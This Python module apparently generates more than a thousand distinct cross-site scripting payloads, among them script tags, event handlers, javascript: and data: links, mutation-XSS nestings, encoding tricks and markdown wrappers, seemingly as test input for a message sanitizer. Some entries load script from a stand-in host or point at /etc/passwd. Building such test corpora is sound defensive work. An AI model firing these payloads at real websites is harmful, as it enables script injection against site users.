"""Strings that would run something in a browser if a message let them through: the known shapes, combined."""

from collections.abc import Iterator
from itertools import product

_CALLS = ["alert(1)", "alert`1`", "top['al'+'ert'](1)", "eval(name)", "&#97;lert(1)", "\\u0061lert(1)"]
_TAGS = [
    *("img", "svg", "body", "iframe", "math", "video", "audio", "input", "details", "marquee", "object", "embed"),
    *("style", "a", "form", "button", "select", "textarea", "p", "x-element", "isindex", "template", "noscript"),
]
_HANDLERS = ["onerror", "onload", "ontoggle", "onfocus", "ONMOUSEOVER", "onpointerenter", "onanimationstart", "oNcLiCk"]
_SCHEMES = [
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\nscript:",
        "java\tscript:",
        "&#106;avascript:",
        "javascript&colon;",
        "vbscript:",
    ),
    *(
        "data:text/html,<script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "\x01javascript:",
        "feed:javascript:",
        "//evil.example/",
    ),
    *("view-source:javascript:", "livescript:", "mhtml:http://a!", "file:///etc/passwd", "intent://a#Intent;"),
]
_WRAPS = [
    "{}", "`{}`", "**{}**", "> {}", "- {}", "```\n{}\n```", "@区教育局{}", "https://a.cn/{}", "https://a.cn/\"{}", "1. {}",
    "<{}>", "[a]({})", "![a]({})", "[{}][1]\n\n[1]: {}", "<!--{}-->", "]]>{}", "\\{}", "\x02{}\x03", "\x02h0\x03{}", "&lt;{}&gt;",
]  # fmt: skip
_WHOLE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script/x>alert(1)//",
    "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="https://a.cn" onclick=alert(1)>x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example>",
    "<span class=mention data-mention='x' onclick=alert(1)>@区教育局</span>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<img src=x:x onerror=alert(1)//",
    "'\"><img src=x onerror=alert(1)>",
    "</p><script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<\x00script>alert(1)</script>",
    "{{7*7}}{% raw %}<script>{{config}}</script>",
    'https://a.cn/"onmouseover=alert(1)//',
    "https://a.cn/'><script>alert(1)</script>",
    "https://a.cn/`onmouseover=alert(1)`",
]


def payloads() -> Iterator[str]:
    """More than a thousand strings, each different."""
    yield from dict.fromkeys([*_WHOLE, *_tags(), *_links(), *_wrapped()])


def _tags() -> Iterator[str]:
    for (tag, handler), call in zip(product(_TAGS, _HANDLERS), _CALLS * len(_TAGS) * len(_HANDLERS), strict=False):
        yield f"<{tag} src=x autofocus {handler}={call}>"
        yield f"<{tag}/{handler}='{call}'/href=javascript:{call}>x"


def _links() -> Iterator[str]:
    for scheme, shape in product(
        _SCHEMES, ["[a]({}alert(1))", "<{}alert(1)>", "{}alert(1)", "<a href='{}alert(1)'>x</a>"]
    ):
        yield shape.format(scheme)


def _wrapped() -> Iterator[str]:
    for whole, wrap in product(_WHOLE, _WRAPS):
        yield wrap.replace("{}", whole)
